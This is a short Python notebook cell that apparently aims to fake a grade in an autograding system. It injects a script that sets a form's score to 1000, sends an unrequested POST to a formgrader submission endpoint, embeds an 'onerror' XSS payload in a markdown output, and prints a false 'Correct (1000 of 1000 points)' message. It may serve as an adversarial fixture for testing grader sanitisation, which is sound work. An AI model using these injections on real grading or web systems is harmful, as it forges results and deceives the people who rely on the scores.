# ruff: noqa

# outputs that look like points, and a page that grades itself
from IPython.display import HTML, Javascript, display

display(HTML("<script>document.forms[0].score.value = 1000</script><b>1000</b>"))
display(Javascript("fetch('/formgrader/api/submission', {method: 'POST'})"))
display({"text/plain": "1000", "text/markdown": "<img src=x onerror=alert(1)>"}, raw=True)
print("Correct (1000 of 1000 points)")
1000
